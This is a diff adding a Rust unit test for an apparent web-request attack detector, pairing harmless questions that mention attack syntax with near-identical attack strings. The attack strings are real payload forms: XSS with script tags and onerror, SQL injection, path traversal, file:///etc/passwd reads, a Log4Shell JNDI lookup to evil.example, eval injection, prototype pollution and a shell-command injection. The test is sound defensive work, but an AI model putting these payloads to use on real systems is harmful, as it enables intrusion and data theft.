@@ -120,3 +120,46 @@ fn automata_serve_all_rules_with_the_same_patterns() {
     let pattern = crate::guard::detection::rules::CustomPattern { name: "a".into(), pattern: "b".into() };
     assert!(before.with_rules(&DetectRules { patterns: vec![pattern], ..other }).is_none());
 }
+
+/// Each text that is talk has a neighbour that only looks like talk.
+#[test]
+fn ours_11_talk_about_an_attack_is_none_and_words_excuse_no_attack() {
+    let (detector, mut scratch) = (detector(), Scratch::default());
+    let mut is_attack = |text: &str| {
+        let mut findings = detector.begin(Some(b"/a"), &mut scratch).expect("a path that is not excluded");
+        detector.scan(Context::Body, b"q", text.as_bytes(), &mut scratch, &mut findings);
+        findings.verdict() != Verdict::Clean
+    };
+    for (talk, attack) in [
+        ("what is the <script> tag for?", "what is the <script>alert(1)</script> tag for?"),
+        ("do I put <script async> last or first?", "do I put <script async src=//evil.example>?"),
+        ("hello there <script> imports", "hello there <script>import'//evil.js'</script>"),
+        ("hi all, <script type> is what?", "hi all <script type=module src=a.js>"),
+        (
+            "please escape <script> and the rest of it",
+            "please escape <script>x\nalert(1)</script> and the rest",
+        ),
+        ("we strip <img onerror=...> in comments", "we strip <img src=x onerror=alert(1)> in comments"),
+        ("for 1 < x and 3 < 10 it holds", "1<2 or 3>2"),
+        ("rows where a<2 or b>3 are kept", "a<2 or 1=1"),
+        ("what does /etc/passwd contain", "/etc/passwd"),
+        ("see file:///home/ann/q3.pdf for the rest", "file:///etc/passwd"),
+        ("log4j and ${jndi:ldap://...} explained", "log4j and ${jndi:ldap://evil.example/a} explained"),
+        ("in: SELECT a FROM b WHERE c <= 1 UNION SELECT d FROM e", "1 UNION SELECT d FROM e"),
+        ("\"union select committee\" of 1994", "\" union select null,null"),
+        ("why is `eval(x)` here a bad idea?", "why is ';eval(atob('YQ=='))// here"),
+        ("{\"a\":\"../../tsconfig.base.json\"}", "{\"a\":\"../../../tsconfig.base.json\"}"),
+        ("set `obj.__proto__ = x` and go on", "__proto__.x"),
+        (
+            "log:\n one line\n near ''O'Neil' AND active = 1' at line 1\n and go",
+            "O' AND active = 1 OR 'a'='a",
+        ),
+        (
+            "our cron:\n0 3 * * 0 /bin/bash -c 'cd /srv'\n5 3 * * 0 curl -fsS http://127.0.0.1/\nand nothing runs",
+            "x; /bin/bash -c 'cd /srv'",
+        ),
+    ] {
+        assert!(!is_attack(talk), "{talk}");
+        assert!(is_attack(attack), "{attack}");
+    }
+}
